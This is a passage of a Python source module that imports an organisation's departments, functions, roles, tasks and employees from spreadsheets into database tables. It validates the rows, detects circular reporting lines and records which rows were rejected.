"""``regelwerk import organisation``: afdelingen, functies, rollen, taken and medewerkers from spreadsheets.

step2HR sets an organisation up top-down and reads everything but the organisation itself from Excel.
The five imports are read in that order, from separate CSV/XLSX files (chosen by file name) or from the
sheets of one workbook (chosen by sheet name), each with its declared columns (``kind: Import``).

What the rows become:

- departments, functions, roles and tasks: rows of ``rw_org_units`` (a role belongs to a function; a
  function may belong to a department; a department may lie under another and have a manager);
- employees: their facts in ``rw_employees`` (what the scheduler plans for: function, department,
  manager, the *function roles*, groups; e-mail, tasks and extra attributes as attributes);
- the links the permission matrices read, in ``rw_relations``: ``reports_to`` (the manager column, else the
  manager of the employee's department or the nearest department above it that has one), ``member_of``
  (the department), ``has_function``, ``has_function_role``, ``has_task``, ``part_of`` (department under
  department) and ``manages`` (manager of a department). A role from the Rollen column is a function
  role, never a permission role: only an explicit ``Rechtenniveau`` (per employee, or per role for
  everyone who fills it) becomes a ``has_role`` fact of the permission matrix.

Everything is checked before anything is written: values, duplicates, references (to rows of the
same import or to what the store already holds), a role that belongs to another function, reporting
lines and department trees that go round in a circle. By default one problem rejects the whole import;
with ``skip_invalid`` the valid rows are written (rows that depend on a rejected row are rejected too)
and the rejected ones are returned to be written, with their errors, to a file the customer can fix and
import again. Everything is written in one transaction. Re-importing is idempotent: links the import
made before and that the file no longer says are withdrawn (with the time and the actor), others are
left alone; links made by hand are never touched.
"""

from __future__ import annotations

import sys
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

from regelwerk.diagnostics import did_you_mean
from regelwerk.imports.absent import ABSENT_CHOICES, Absent, end_absent, find_absent, import_day
from regelwerk.imports.columns import HeaderError, ImportSpec, normalise
from regelwerk.imports.reader import FileError, RowProblem, Sheet, as_formula_safe, open_tables
from regelwerk.imports.values import id_problem

__all__ = [
    "ENTITIES",
    "IMPORT_ACTOR",
    "RELATION_KINDS",
    "OrganisationImport",
    "OrganisationResult",
    "Problem",
    "Rejected",
    "import_organisation",
    "write_rejected",
]

#: The imports, in the order they are read and written (top-down).
ENTITIES = ("departments", "functions", "roles", "tasks", "employees")
_UNIT = {"departments": "department", "functions": "function", "roles": "role", "tasks": "task"}
#: Who the relations written by the import are ``created_by`` (and withdrawn by, on a re-import).
IMPORT_ACTOR = "import:organisation"
#: The relation kinds the import writes (and so may withdraw on a re-import).
RELATION_KINDS = ("reports_to", "member_of", "has_function", "has_function_role", "has_task", "has_role",
                  "part_of", "manages")
#: Workbook sheets that hold explanations, not rows (ignored).
EXPLANATION_SHEETS = frozenset({"toelichting", "instructies", "uitleg", "readme", "instructions", "help"})
_CHUNK = 1000


@dataclass(frozen=True, slots=True)
class Problem:
    """One problem: the file, the import (sheet), the row (0: the file or sheet as a whole) and what is wrong."""

    file: str
    entity: str
    row: int
    message: str

    def __str__(self) -> str:
        where = f"{self.file}" + (f" [{self.entity}]" if self.entity else "")
        return f"{where} row {self.row}: {self.message}" if self.row else f"{where}: {self.message}"

    def to_dict(self) -> dict[str, Any]:
        """Plain data for ``--format json``."""
        return {"file": self.file, "import": self.entity, "row": self.row, "message": self.message}


@dataclass(frozen=True, slots=True)
class Rejected:
    """A row left out by ``skip_invalid``: where it is and why (its cells are read again when written)."""

    entity: str
    file: str
    path: str
    sheet: str
    row: int
    errors: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class OrganisationResult:
    """What an organisation import did (or would have done: ``written`` is False when it was refused)."""

    imported: Mapping[str, int]
    relations_added: int = 0
    relations_withdrawn: int = 0
    errors: tuple[Problem, ...] = ()
    rejected: tuple[Rejected, ...] = ()
    written: bool = False
    absent: tuple[Absent, ...] = ()  # ``absent="report"|"end"``: who and what the store has and the files do not
    #: the ids of the employees the import wrote (their reporting lines are the import's)
    employee_ids: frozenset[str] = frozenset()

    @property
    def ok(self) -> bool:
        """True when the import was written (possibly without its rejected rows)."""
        return self.written

    def to_dict(self) -> dict[str, Any]:
        """Plain data for ``--format json``."""
        return {"written": self.written, "imported": dict(self.imported), "relations_added": self.relations_added,
                "relations_withdrawn": self.relations_withdrawn, "errors": [e.to_dict() for e in self.errors],
                "rejected": [{"import": r.entity, "file": r.file, "row": r.row, "errors": list(r.errors)}
                             for r in self.rejected], "absent": [a.to_dict() for a in self.absent]}

    def lines(self) -> list[str]:
        """A short text report."""
        counts = ", ".join(f"{n} {e}" for e, n in self.imported.items() if n) or "nothing"
        if not self.written:
            return [str(e) for e in self.errors] + [f"nothing imported ({len(self.errors)} error(s))"]
        out = [f"{r.file} [{r.entity}] row {r.row}: rejected: {'; '.join(r.errors)}" for r in self.rejected]
        out.extend(str(a) for a in self.absent)
        out.append(f"imported {counts}; relations: {self.relations_added} added, "
                   f"{self.relations_withdrawn} withdrawn" + (f"; {len(self.rejected)} row(s) rejected"
                                                              if self.rejected else "")
                   + (f"; {len(self.absent)} absent from the file" if self.absent else ""))
        return out


@dataclass(slots=True)
class _Row:
    entity: str
    source: int  # index into OrganisationImport.sources
    row: int
    values: dict[str, Any]
    problems: list[str] = field(default_factory=list)
    cascaded: bool = False

    @property
    def id(self) -> str:
        return str(self.values.get("id", ""))


@dataclass(frozen=True, slots=True)
class _Source:
    path: str
    shown: str
    sheet: str


@dataclass(slots=True)
class _Known:
    """What the store holds already (references may point there)."""

    units: dict[str, dict[str, tuple[str | None, str | None]]]  # kind -> id -> (parent, manager)
    employees: dict[str, str | None]  # id -> manager
    role_functions: dict[str, frozenset[str]] = field(default_factory=dict)  # role -> its functions
    functions: dict[str, str | None] = field(default_factory=dict)  # employee -> function
    ended: set[tuple[str, str]] = field(default_factory=set)  # (kind, id) of units an earlier --absent end ended


#: Rows of these imports may repeat an id: a role per function it belongs to, a task per employee it is given to.
_PAIRED = {"roles": "function", "tasks": "employee"}


def _intern(value: Any) -> Any:
    return sys.intern(value) if isinstance(value, str) else value


class OrganisationImport:
    """One import run: read the sources, check every row, then write (or not) in one transaction."""

    def __init__(self, specs: Mapping[str, ImportSpec], *, skip_invalid: bool = False,
                 access_roles: Iterable[str] | None = None) -> None:
        self.specs = {name: specs[name] for name in ENTITIES}
        self.skip_invalid = skip_invalid
        self.access_roles = frozenset(access_roles) if access_roles is not None else None
        self.sources: list[_Source] = []
        self.rows: dict[str, list[_Row]] = {name: [] for name in ENTITIES}
        self.columns: dict[str, set[str]] = {name: set() for name in ENTITIES}  # the columns the files have
        self._role_map: dict[str, set[str]] = {}
        self.file_errors: list[Problem] = []
        self.present: set[str] = set()  # the imports a file or sheet was read for

    # --- reading -------------------------------------------------------------------------------

    def _spec_for(self, name: str) -> str | None:
        wanted = normalise(name)
        for entity in ENTITIES:
            if self.specs[entity].takes_sheet(name):
                return entity
        for entity in ENTITIES:  # a file named "medewerkers-2027.csv" or "afdelingen_export.csv"
            spec = self.specs[entity]
            if any(wanted.startswith(normalise(n)) for n in (spec.name, spec.label, *spec.sheets) if normalise(n)):
                return entity
        return None

    def read(self, paths: Sequence[str | Path]) -> None:
        """Read every file (CSV: the import is chosen by the file name; XLSX: by each sheet's name)."""
        for path in paths:
            shown = str(path)
            try:
                with open_tables(path, shown) as sheets:
                    workbook = Path(path).suffix.lower() in (".xlsx", ".xlsm")
                    for sheet in sheets:
                        self._read_sheet(path, shown, sheet, workbook)
            except FileError as exc:
                self.file_errors.append(Problem(exc.file, "", 0, exc.message + (f" ({exc.hint})" if exc.hint else "")))

    def _read_sheet(self, path: str | Path, shown: str, sheet: Sheet, workbook: bool) -> None:
        entity = self._spec_for(sheet.name)
        if entity is None:
            if workbook and normalise(sheet.name) in EXPLANATION_SHEETS:
                return
            names = [self.specs[e].label for e in ENTITIES]
            hint = did_you_mean(sheet.name, names + list(ENTITIES))
            what = f"sheet {sheet.name!r}" if workbook else "the file name"
            self.file_errors.append(Problem(shown, "", 0, f"{what} does not say what it holds"
                                            + (f": {hint}" if hint else "")
                                            + f" (name it one of: {', '.join(names)})"))
            return
        spec = self.specs[entity]
        try:
            self.columns[entity].update(c.id for c in spec.match_header(sheet.header) if c is not None)
            records = spec.records(sheet)
            self.present.add(entity)
            self.sources.append(_Source(str(path), shown, sheet.name))
            source = len(self.sources) - 1
            target = self.rows[entity]
            for item in records:
                if isinstance(item, RowProblem):
                    # a row whose id could be read is rejected as that row (rows naming it say so; it is not
                    # absent); one without is not known at all
                    target.append(_Row(entity, source, item.row, {"id": _intern(item.id)} if item.id else {},
                                       [item.message]))
                else:
                    values = {k: _intern(v) for k, v in item.values.items()}
                    target.append(_Row(entity, source, item.row, values))
        except HeaderError as exc:
            where = f"{shown} [{spec.label}]" if workbook else shown
            self.file_errors.append(Problem(where, "", 1, "the header: " + "; ".join(exc.problems)))
        except FileError as exc:
            self.file_errors.append(Problem(exc.file, spec.label, 0, exc.message))

    # --- checking ------------------------------------------------------------------------------

    def check(self, known: _Known) -> None:
        """Find every problem of every row (references against the file and the store)."""
        for entity in ENTITIES:
            seen: dict[tuple[str, Any], int] = {}
            pair = _PAIRED.get(entity)
            stored = known.employees if entity == "employees" else known.units[_UNIT[entity]]
            looks: dict[str, tuple[str, str]] = {}  # folded id -> (its id, where: "row n" or "the store")
            for row in self.rows[entity]:
                if row.problems:
                    continue
                odd = id_problem(row.id, row.row, looks, stored)
                if odd is not None:
                    row.problems.append(odd)
                    continue
                key = (row.id, row.values.get(pair) if pair else None)
                if key in seen:
                    also = f" with {pair} {key[1]!r}" if pair and key[1] is not None else ""
                    row.problems.append(f"id: {row.id!r}{also} also in row {seen[key]}")
                else:
                    seen[key] = row.row
        if self.skip_invalid:
            while self._check_references(known, cascade=True):
                pass
        else:
            self._check_references(known, cascade=False)

    def _available(self, entity: str, cascade: bool) -> dict[str, _Row]:
        return {r.id: r for r in self.rows[entity] if r.id and not (cascade and r.problems)}

    def _check_references(self, known: _Known, cascade: bool) -> bool:
        """One pass; returns True when it rejected a row that was fine before (skip_invalid cascades)."""
        changed = False
        rows = {entity: self._available(entity, cascade) for entity in ENTITIES}
        everything = {entity: {r.id: r for r in self.rows[entity] if r.id} for entity in ENTITIES}

        def exists(entity: str, ident: str) -> bool:
            return ident in rows[entity] or (ident not in everything[entity] and (
                ident in known.employees if entity == "employees" else ident in known.units[_UNIT[entity]]))

        def refer(row: _Row, column: str, entity: str) -> bool:
            ident = row.values.get(column)
            if ident is None or exists(entity, str(ident)):
                return True
            other = everything[entity].get(str(ident))
            if other is not None:
                src = self.sources[other.source]
                self._reject(row, f"{column}: {ident!r} is rejected ({src.shown} [{self.specs[entity].label}] "
                                  f"row {other.row})", cascaded=True)
                return False
            stored = known.employees if entity == "employees" else known.units[_UNIT[entity]]
            hint = ""
            if len(rows[entity]) + len(stored) < 5000:  # a hint is worth a scan of a small list only
                hint = did_you_mean(str(ident), [*rows[entity], *stored])
            what = _UNIT.get(entity, "employee")
            self._reject(row, f"{column}: no {what} {ident!r}" + (f" ({hint})" if hint else ""))
            return False

        for entity in ENTITIES:
            for row in ([r for r in self.rows[entity] if not r.problems] if cascade else self.rows[entity]):
                if not row.values:
                    continue  # the row could not be read at all: its problem is reported already
                before = len(row.problems)
                self._row_references(row, refer, rows, known)
                changed = changed or len(row.problems) > before
        if self._cycles(rows if cascade else everything, known):
            changed = True
        return changed and cascade

    def _reject(self, row: _Row, message: str, cascaded: bool = False) -> bool:
        if message not in row.problems:
            row.problems.append(message)
            row.cascaded = row.cascaded or cascaded
        return True

    def _row_references(self, row: _Row, refer: Any, rows: Mapping[str, Mapping[str, _Row]], known: _Known) -> None:
        values = row.values
        if row.entity == "departments":
            refer(row, "parent", "departments")
            refer(row, "manager", "employees")
        elif row.entity == "functions":
            refer(row, "department", "departments")
        elif row.entity == "roles":
            refer(row, "function", "functions")
            self._check_access(row, values.get("access", ()))
        elif row.entity == "tasks":
            refer(row, "employee", "employees")
        elif row.entity == "employees":
            if values.get("manager") is not None and values["manager"] == row.id:
                self._reject(row, "manager: an employee cannot be their own manager")
            refer(row, "manager", "employees")
            refer(row, "department", "departments")
            refer(row, "function", "functions")
            for kind, entity in (("roles", "roles"), ("tasks", "tasks")):
                for item in values.get(kind, ()):
                    single = _Row(row.entity, row.source, row.row, {kind: item})
                    if not refer(single, kind, entity):
                        for message in single.problems:
                            self._reject(row, message, single.cascaded)
                        continue
                    owners = self._role_functions(item, known) if kind == "roles" else frozenset()
                    function = (values.get("function") if "function" in self.columns["employees"]
                                else known.functions.get(row.id))
                    if owners and function not in owners:
                        self._reject(row, f"roles: {item!r} is a role of function {', '.join(sorted(owners))!r}, "
                                          f"not of {function or 'no function'!r}")
            self._check_access(row, values.get("access", ()))
            hired, left = values.get("hire_date"), values.get("leaving_date")
            if isinstance(hired, date) and isinstance(left, date) and left < hired:
                self._reject(row, "leaving_date: before hire_date")

    def _role_functions(self, role: str, known: _Known) -> frozenset[str]:
        """The functions a role belongs to: its rows in this import (any of them), else the store's."""
        if not self._role_map and self.rows["roles"]:
            for r in self.rows["roles"]:
                if r.id:
                    functions = self._role_map.setdefault(r.id, set())
                    if r.values.get("function") is not None:
                        functions.add(str(r.values["function"]))
        if role in self._role_map:
            return frozenset(self._role_map[role])
        return known.role_functions.get(role, frozenset())

    def _check_access(self, row: _Row, access: Iterable[str]) -> None:
        if self.access_roles is None:
            return
        for role in access:
            if role not in self.access_roles:
                hint = did_you_mean(role, self.access_roles)
                self._reject(row, f"access: {role!r} is not a role of the permission matrix"
                                  + (f" ({hint})" if hint else f"; roles: {', '.join(sorted(self.access_roles))}"))

    def effective_managers(self, rows: Mapping[str, Mapping[str, _Row]], known: _Known) -> dict[str, str | None]:
        """Per imported employee: the manager column, else the manager of the nearest department up that has one."""
        def department(ident: str) -> tuple[str | None, str | None]:
            row = rows["departments"].get(ident)
            if row is not None:
                return row.values.get("parent"), row.values.get("manager")
            return known.units["department"].get(ident, (None, None))

        out: dict[str, str | None] = {}
        for ident, row in rows["employees"].items():
            manager = row.values.get("manager")
            current, steps = row.values.get("department"), 0
            while manager is None and current is not None and steps < 100:
                parent, head = department(str(current))
                if head is not None and head != ident:
                    manager = head
                current, steps = parent, steps + 1
            out[ident] = manager
        return out

    def _cycles(self, rows: Mapping[str, Mapping[str, _Row]], known: _Known) -> list[_Row]:
        """Rows closing a circle in the department tree or the reporting lines (each reported once)."""
        found: list[_Row] = []
        parents = {k: (str(v[0]) if v[0] is not None else None) for k, v in known.units["department"].items()}
        parents.update({k: r.values.get("parent") for k, r in rows["departments"].items()})
        managers = dict(known.employees)
        managers.update(self.effective_managers(rows, known))
        for graph, entity, column, what in ((parents, "departments", "parent", "department tree"),
                                            (managers, "employees", "manager", "reporting line")):
            state: dict[str, int] = {}
            for start in rows[entity]:
                path: list[str] = []
                node: str | None = start
                while node is not None and state.get(node, 0) == 0:
                    state[node] = 1
                    path.append(node)
                    node = graph.get(node)
                if node is not None and state.get(node) == 1:
                    circle = path[path.index(node):]
                    for member in circle:
                        row = rows[entity].get(member)
                        if row is not None:
                            self._reject(row, f"{column}: the {what} goes round in a circle "
                                              f"({' -> '.join([*circle, node])})")
                            found.append(row)
                for member in path:
                    state[member] = 2
        return found

    # --- results -------------------------------------------------------------------------------

    def problems(self) -> list[Problem]:
        """Every problem found (file problems first, then rows in import and row order)."""
        out = list(self.file_errors)
        for entity in ENTITIES:
            for row in self.rows[entity]:
                out.extend(Problem(self.sources[row.source].shown, self.specs[entity].label, row.row, message)
                           for message in row.problems)
        return out

    def rejected(self) -> list[Rejected]:
        """The rows with problems (what ``skip_invalid`` leaves out)."""
        return [Rejected(entity, self.sources[r.source].shown, self.sources[r.source].path,
                         self.sources[r.source].sheet, r.row, tuple(r.problems))
                for entity in ENTITIES for r in self.rows[entity] if r.problems]

    def valid(self, entity: str) -> Iterator[_Row]:
        """The rows without problems."""
        return (r for r in self.rows[entity] if not r.problems)


# --- the store ---------------------------------------------------------------------------------

def setup_tables(sa_engine: Any) -> None:
    """Create the tables the import writes when missing (first use and tests; production migrates)."""
    from regelwerk.imports.tables import org_units
    from regelwerk.permissions.tables import rw_relations
    from regelwerk.scheduling import tables
    from regelwerk.store.sql import create_missing

    create_missing(sa_engine, (org_units, rw_relations, tables.employees, tables.scheduled_items,
                               tables.scheduled_events))


def _load_known(conn: Any) -> _Known:
    import sqlalchemy as sa
    from regelwerk.imports.tables import org_units
    from regelwerk.scheduling.tables import employees

    units: dict[str, dict[str, tuple[str | None, str | None]]] = {k: {} for k in _UNIT.values()}
    role_functions: dict[str, frozenset[str]] = {}
    ended: set[tuple[str, str]] = set()
    for kind, ident, parent, manager, attributes in conn.execute(sa.select(
            org_units.c.kind, org_units.c.id, org_units.c.parent, org_units.c.manager, org_units.c.attributes)):
        units.setdefault(kind, {})[ident] = (parent, manager)
        if (attributes or {}).get("ended_on"):
            ended.add((kind, ident))
        if kind == "role":
            role_functions[ident] = frozenset((attributes or {}).get("functions") or ([parent] if parent else []))
    people: dict[str, str | None] = {}
    functions: dict[str, str | None] = {}
    for ident, manager, function in conn.execute(sa.select(employees.c.id, employees.c.manager,
                                                           employees.c.function)):
        people[ident] = manager
        functions[ident] = function
    return _Known(units, people, role_functions, functions, ended)


def _naive(moment: datetime) -> datetime:
    return moment.astimezone(UTC).replace(tzinfo=None)


def _write_units(conn: Any, run: OrganisationImport, now: datetime) -> dict[str, int]:
    """Upsert the units; a role on several rows (one per function) or a task on several (one per employee) is
    one unit: its functions (``attributes.functions``; ``parent`` when there is one) and Rechtenniveaus merged."""
    from regelwerk.imports.tables import org_units
    from regelwerk.scheduling.employees import dialect_insert

    parent_column = {"departments": "parent", "functions": "department", "roles": "function"}
    counts: dict[str, int] = {}
    for entity, kind in _UNIT.items():
        units: dict[str, dict[str, Any]] = {}
        for row in run.valid(entity):
            v = row.values
            unit = units.get(row.id)
            if unit is None:
                unit = units[row.id] = {
                    "kind": kind, "id": row.id, "name": v.get("name") or row.id, "parent": None,
                    "manager": v.get("manager") if entity == "departments" else None, "access": [],
                    "attributes": _plain(v.get("attributes") or {}), "updated_at": _naive(now), "_parents": []}
            elif v.get("name") and unit["name"] == row.id:
                unit["name"] = v["name"]
            parent = v.get(parent_column.get(entity, ""))
            if parent is not None and parent not in unit["_parents"]:
                unit["_parents"].append(parent)
            unit["access"] = sorted(set(unit["access"]) | set(v.get("access", ())))
        rows = []
        for unit in units.values():
            parents = unit.pop("_parents")
            unit["parent"] = parents[0] if len(parents) == 1 else None
            if entity == "roles" and parents:
                unit["attributes"] = {**unit["attributes"], "functions": sorted(parents)}
            rows.append(unit)
        counts[entity] = len(rows)
        if not rows:
            continue
        stmt = dialect_insert(conn, org_units)
        stmt = stmt.on_conflict_do_update(index_elements=["kind", "id"],
                                          set_={c: stmt.excluded[c] for c in rows[0] if c not in ("kind", "id")})
        for start in range(0, len(rows), _CHUNK):
            conn.execute(stmt, rows[start:start + _CHUNK])
    return counts


def _plain(values: Mapping[str, Any]) -> dict[str, Any]:
    return {k: (v.isoformat() if isinstance(v, (date, datetime)) else list(v) if isinstance(v, tuple) else v)
            for k, v in sorted(values.items())}


_Links = tuple[str, frozenset[str], set[tuple[str, str]]]


def _desired_relations(run: OrganisationImport, managers: Mapping[str, str | None],
                       role_access: Mapping[str, tuple[str, ...]]) -> Iterator[_Links]:
    """Per subject: the relation kinds this import speaks about for it (its *scope*) and the ``(kind, object)``
    links it says. Only links of kinds in scope are compared with what the import wrote before, so a file
    without a Taken column does not take tasks away, and a manager who is not in the file keeps their lines."""
    seen = run.columns
    for row in run.valid("departments"):
        links: set[tuple[str, str]] = set()
        if row.values.get("parent") is not None:
            links.add(("part_of", str(row.values["parent"])))
        yield row.id, frozenset({"part_of"} if "parent" in seen["departments"] else ()), links
    heads: dict[str, set[tuple[str, str]]] = {}
    for row in run.valid("departments"):
        if row.values.get("manager") is not None:
            heads.setdefault(str(row.values["manager"]), set()).add(("manages", row.id))
    given: dict[str, set[tuple[str, str]]] = {}  # tasks given on the Taken sheet (a row per employee and task)
    for row in run.valid("tasks"):
        if row.values.get("employee") is not None:
            given.setdefault(str(row.values["employee"]), set()).add(("has_task", row.id))
    employee_columns = seen["employees"]
    scope = {"reports_to"} if {"manager", "department"} & employee_columns else set()
    scope.update(kind for column, kind in (("department", "member_of"), ("function", "has_function"),
                                           ("roles", "has_function_role"), ("tasks", "has_task"))
                 if column in employee_columns)
    if "access" in employee_columns or "roles" in employee_columns:
        scope.add("has_role")
    if "employee" in seen["tasks"]:
        scope.add("has_task")
    if "manager" in seen["departments"]:
        scope.add("manages")
    employee_scope = frozenset(scope)
    for row in run.valid("employees"):
        v = row.values
        links = heads.pop(row.id, set()) | given.pop(row.id, set())
        manager = managers.get(row.id)
        if manager is not None:
            links.add(("reports_to", manager))
        for column, kind in (("department", "member_of"), ("function", "has_function")):
            if v.get(column) is not None:
                links.add((kind, str(v[column])))
        links.update(("has_function_role", r) for r in v.get("roles", ()))
        links.update(("has_task", t) for t in v.get("tasks", ()))
        access = set(v.get("access", ()))
        for role in v.get("roles", ()):
            access.update(role_access.get(role, ()))
        links.update(("has_role", a) for a in access)
        yield row.id, employee_scope, links
    # people who are not in this file but whom it gives a department or a task: only those kinds
    for person in sorted(set(heads) | set(given)):
        links = heads.get(person, set()) | given.get(person, set())
        yield person, frozenset({k for k, _ in links}), links


def _write_relations(conn: Any, subjects: Iterable[_Links], now: datetime, actor: str) -> tuple[int, int]:
    import sqlalchemy as sa
    from regelwerk.permissions.tables import rw_relations as t

    added = withdrawn = 0
    moment = now.astimezone(UTC)
    batch: list[_Links] = []

    def flush() -> None:
        nonlocal added, withdrawn
        wanted = {subject: links for subject, _, links in batch}
        scopes = {subject: scope for subject, scope, _ in batch}
        existing: dict[str, dict[tuple[str, str], list[int]]] = {}
        query = sa.select(t.c.id, t.c.kind, t.c.subject, t.c.object).where(
            t.c.subject.in_(list(wanted)), t.c.kind.in_(RELATION_KINDS), t.c.created_by == actor,
            t.c.withdrawn_at.is_(None))
        for rid, kind, subject, obj in conn.execute(query):
            existing.setdefault(subject, {}).setdefault((kind, obj), []).append(rid)
        gone: list[int] = []
        new: list[dict[str, Any]] = []
        for subject, links in wanted.items():
            have = existing.get(subject, {})
            for link, ids in have.items():
                if link not in links and link[0] in scopes[subject]:
                    gone.extend(ids)
            new.extend({"kind": k, "subject": subject, "object": o, "valid_from": None, "valid_to": None,
                        "withdrawn_at": None, "withdrawn_by": "", "created_by": actor, "created_at": moment}
                       for k, o in sorted(links) if (k, o) not in have)
        if gone:
            conn.execute(t.update().where(t.c.id.in_(gone)).values(withdrawn_at=moment, withdrawn_by=actor))
        if new:
            conn.execute(t.insert(), new)
        added += len(new)
        withdrawn += len(gone)
        batch.clear()

    for item in subjects:
        batch.append(item)
        if len(batch) >= _CHUNK:
            flush()
    if batch:
        flush()
    return added, withdrawn


_FACT_COLUMNS = ("name", "hire_date", "leaving_date", "function", "department", "roles", "groups")
_ATTRIBUTE_COLUMNS = ("email", "tasks", "access")


def _write_employees(conn: Any, run: OrganisationImport, managers: Mapping[str, str | None], now: datetime) -> int:
    """Upsert the employees' facts; a column the files do not have keeps the stored value (a row replaces what
    its columns say, not what they do not)."""
    import sqlalchemy as sa
    from regelwerk.scheduling.employees import EmployeeDirectory, EmployeeFacts, _row_of, facts_of_row
    from regelwerk.scheduling.tables import employees

    columns = run.columns["employees"]
    extras = {c.id for c in run.specs["employees"].extra}
    given: dict[str, list[str]] = {}
    if "employee" in run.columns["tasks"]:
        for row in run.valid("tasks"):
            if row.values.get("employee") is not None:
                given.setdefault(str(row.values["employee"]), []).append(row.id)
    count = 0

    def flush(chunk: list[Any]) -> None:
        ids = [row.id for row in chunk]
        stored = {r.id: facts_of_row(r) for r in conn.execute(sa.select(employees).where(employees.c.id.in_(ids)))}
        out = []
        for row in chunk:
            v = dict(row.values)
            old = stored.get(row.id)
            if row.id in given:
                v["tasks"] = tuple(dict.fromkeys([*v.get("tasks", ()), *given[row.id]]))
                columns_here = columns | {"tasks"}
            else:
                columns_here = columns
            attributes = dict(old.attributes) if old is not None else {}
            for key in [*_ATTRIBUTE_COLUMNS, *extras]:
                if key in columns_here:
                    attributes.pop(key, None)
            attributes.update(v.get("attributes") or {})
            for key in _ATTRIBUTE_COLUMNS:
                if v.get(key):
                    attributes[key] = v[key]
            facts: dict[str, Any] = {key: v.get(key) for key in _FACT_COLUMNS}
            if old is not None:
                for key in _FACT_COLUMNS:
                    if key not in columns_here:
                        facts[key] = getattr(old, key)
            manager = managers.get(row.id)
            if manager is None and old is not None and not {"manager", "department"} & columns_here:
                manager = old.manager
            out.append(_row_of(EmployeeFacts(
                id=row.id, name=facts["name"], hire_date=facts["hire_date"], leaving_date=facts["leaving_date"],
                function=facts["function"], department=facts["department"], manager=manager,
                roles=tuple(facts["roles"] or ()), groups=tuple(facts["groups"] or ()),
                attributes=_plain(attributes)), now))
        EmployeeDirectory._upsert(conn, out)

    chunk: list[_Row] = []
    for row in run.valid("employees"):
        chunk.append(row)
        count += 1
        if len(chunk) >= _CHUNK:
            flush(chunk)
            chunk = []
    if chunk:
        flush(chunk)
    return count


def _without(known: _Known, absent: Sequence[Absent]) -> _Known:
    """What the store holds once the absent are ended: a file row may no longer refer to them (nor to units an
    earlier ``end`` ended)."""
    gone: dict[str, set[str]] = {}
    for item in absent:
        gone.setdefault(item.kind, set()).add(item.id)
    for kind, ident in known.ended:
        gone.setdefault(kind, set()).add(ident)
    people = gone.get("employee", set())
    units = {kind: {k: v for k, v in stored.items() if k not in gone.get(kind, set())}
             for kind, stored in known.units.items()}
    return _Known(units, {k: v for k, v in known.employees.items() if k not in people},
                  {k: v for k, v in known.role_functions.items() if k not in gone.get("role", set())},
                  {k: v for k, v in known.functions.items() if k not in people}, known.ended)


def _present_ids(run: OrganisationImport) -> dict[str, set[str]]:
    """Per unit kind (and ``employee``) of the imports the files hold: every id a row names, valid or not (a
    rejected row's person is not absent)."""
    out: dict[str, set[str]] = {}
    for entity in run.present:
        out[_UNIT.get(entity, "employee")] = {r.id for r in run.rows[entity] if r.id}
    return out


def import_organisation(sa_engine: Any, paths: Sequence[str | Path], *, compiled: Any = None,
                        skip_invalid: bool = False, now: datetime | None = None,
                        actor: str = IMPORT_ACTOR, absent: str = "keep") -> OrganisationResult:
    """Read, check and (when allowed) write an organisation from ``paths`` in one transaction.

    ``compiled``: the customer's bundle (its ``Import`` declarations and, to check ``Rechtenniveau``,
    the roles of its permission matrices); without it the standard's declarations apply and any
    permission role is accepted. ``absent``: what happens to employees and units the store has and the files
    do not (``keep``, ``report`` or ``end``; :mod:`regelwerk.imports.absent`). With ``end`` a row may not
    refer to what is ended, and a row that cannot be read at all refuses the import (who it was is unknown).
    """
    from regelwerk.imports.specs import import_spec

    if absent not in ABSENT_CHOICES:
        raise ValueError(f"absent must be one of {', '.join(ABSENT_CHOICES)}, not {absent!r}")
    moment = now or datetime.now(UTC)
    specs = {name: import_spec(name, compiled) for name in ENTITIES}
    access: set[str] | None = None
    if compiled is not None and compiled.of_kind("PermissionMatrix"):
        access = {role for matrix in compiled.of_kind("PermissionMatrix").values() for role in matrix.roles}
    run = OrganisationImport(specs, skip_invalid=skip_invalid, access_roles=access)
    run.read(paths)
    empty = {name: 0 for name in ENTITIES}
    if run.file_errors:
        return OrganisationResult(empty, errors=tuple(run.file_errors))
    if not any(run.rows.values()):
        return OrganisationResult(empty, errors=(Problem(", ".join(map(str, paths)), "", 0, "no rows to import"),))
    if absent == "end":
        unread = [Problem(run.sources[r.source].shown, run.specs[e].label, r.row,
                          "--absent end: this row cannot be read, so who is absent from the file is not known")
                  for e in run.present for r in run.rows[e] if not r.id]
        if unread:
            return OrganisationResult(empty, errors=tuple(unread))
    setup_tables(sa_engine)
    with sa_engine.begin() as conn:
        known = _load_known(conn)
        day = import_day(moment, getattr(compiled, "timezone", None))
        missing = find_absent(conn, _present_ids(run), day) if absent != "keep" else []
        if absent == "end":
            known = _without(known, missing)
        run.check(known)
        problems = run.problems()
        if problems and not skip_invalid:
            conn.rollback()
            return OrganisationResult(empty, errors=tuple(problems))
        rows = {entity: {r.id: r for r in run.valid(entity)} for entity in ENTITIES}
        managers = run.effective_managers(rows, known)
        counts = _write_units(conn, run, moment)
        counts["employees"] = _write_employees(conn, run, managers, moment)
        role_access = {r.id: tuple(r.values.get("access", ())) for r in run.valid("roles")}
        for ident, (_, _) in known.units["role"].items():
            role_access.setdefault(ident, ())
        added, withdrawn = _write_relations(conn, _desired_relations(run, managers, role_access), moment, actor)
        if absent == "end":
            missing = end_absent(conn, missing, day, moment, actor)
    return OrganisationResult(counts, added, withdrawn, (), tuple(run.rejected()), True, tuple(missing),
                              frozenset(rows["employees"]))


def organisation_employee_ids(paths: Sequence[str | Path], *, compiled: Any = None) -> frozenset[str]:
    """The ids of the employee rows of an organisation's files, read without checking or writing anything (what
    :func:`import_organisation` of the same files writes, when they are valid)."""
    from regelwerk.imports.specs import import_spec

    run = OrganisationImport({name: import_spec(name, compiled) for name in ENTITIES})
    run.read(paths)
    return frozenset(r.id for r in run.rows.get("employees", ()) if r.id)


# --- the file of rejected rows -----------------------------------------------------------------

_Cells = dict[tuple[str, str], tuple[tuple[Any, ...], dict[int, tuple[Any, ...]]]]


def _rejected_cells(rejected: Sequence[Rejected]) -> _Cells:
    """Per (path, sheet): the header and the rejected rows' cells, read again from the source."""
    wanted: dict[tuple[str, str], set[int]] = {}
    for item in rejected:
        wanted.setdefault((item.path, item.sheet), set()).add(item.row)
    out: _Cells = {}
    for (path, sheet_name), numbers in wanted.items():
        with open_tables(path) as sheets:
            for sheet in sheets:
                if sheet.name != sheet_name:
                    continue
                cells: dict[int, tuple[Any, ...]] = {}
                for line in sheet.rows:
                    if line.row in numbers:
